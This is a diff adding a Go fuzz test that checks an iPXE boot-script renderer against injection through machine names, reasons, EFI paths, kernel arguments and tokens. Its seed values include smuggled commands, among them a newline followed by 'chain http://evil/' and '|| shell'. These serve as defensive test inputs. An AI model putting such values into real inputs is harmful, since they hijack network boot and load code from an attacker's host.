@@ -1,0 +1,69 @@
+package ipxe
+
+import (
+	"bytes"
+	"strings"
+	"testing"
+
+	"github.com/byoi/byoi/boot"
+)
+
+// FuzzScript renders every action with fuzzed values in every field a user
+// or operator controls, reads the script back as iPXE would, and fails when
+// a value changed the list of commands iPXE runs (an injected command, a
+// swallowed line, a comment) or reached its command altered.
+func FuzzScript(f *testing.F) {
+	seeds := [][6]string{
+		{"web-1", "unknown machine", `\efi\debian\grubx64.efi`, "console=ttyS0", "tok_en-1", "vmlinuz"},
+		{"a\nchain http://evil/", "x || shell", `\EFI\a b\#c.efi`, "${net0/ip}", "a b", "a b"},
+		{"#m", "&&", `\EFI\x\`, "||", "\r", "${x}"},
+		{"m", ";", `/EFI/BOOT/BOOTX64.EFI`, `"q" 'q'`, "-", `\x\`},
+		{"", "", "", "", "", ""},
+	}
+	for _, s := range seeds {
+		f.Add(s[0], s[1], s[2], s[3], s[4], s[5])
+	}
+	f.Fuzz(func(t *testing.T, machine, reason, efiPath, extra, tok, kernelPath string) {
+		task := &boot.Task{ID: 12}
+		p := installParams(boot.FirmwareEFI, boot.ArchX86_64)
+		p.Token = tok
+		p.KernelURL = testBase + "/" + kernelPath
+		p.ExtraArgs = []string{extra}
+		actions := []boot.Action{
+			{Kind: boot.ActionInstall, Machine: machine, Task: task},
+			{Kind: boot.ActionLocal, Machine: machine, EFIBootloaderPath: efiPath},
+			{Kind: boot.ActionExit, Machine: machine, Reason: reason},
+		}
+		for _, fw := range []boot.Firmware{boot.FirmwareEFI, boot.FirmwareBIOS} {
+			p.Firmware = fw
+			for _, a := range actions {
+				checkRendered(t, a, p)
+				checkNoStrayLines(t, a, p)
+			}
+		}
+	})
+}
+
+// checkNoStrayLines asserts, independently of the parser model, that every
+// rendered line is a comment, a label, blank, or starts with a command the
+// templates use.
+func checkNoStrayLines(t *testing.T, a boot.Action, p ScriptParams) {
+	t.Helper()
+	var buf bytes.Buffer
+	if err := Script(&buf, a, p); err != nil {
+		return
+	}
+	allowed := map[string]bool{"echo": true, "kernel": true, "initrd": true, "boot": true, "goto": true,
+		"sanboot": true, "set": true, "exit": true}
+	for i, line := range strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n") {
+		f := strings.Fields(line)
+		switch {
+		case len(f) == 0, strings.HasPrefix(f[0], "#"), strings.HasPrefix(f[0], ":"):
+		case !allowed[f[0]]:
+			t.Fatalf("line %d starts with %q:\n%s", i+1, f[0], buf.String())
+		}
+		if strings.HasSuffix(line, `\`) {
+			t.Fatalf("line %d ends in a backslash (joins the next line):\n%s", i+1, buf.String())
+		}
+	}
+}
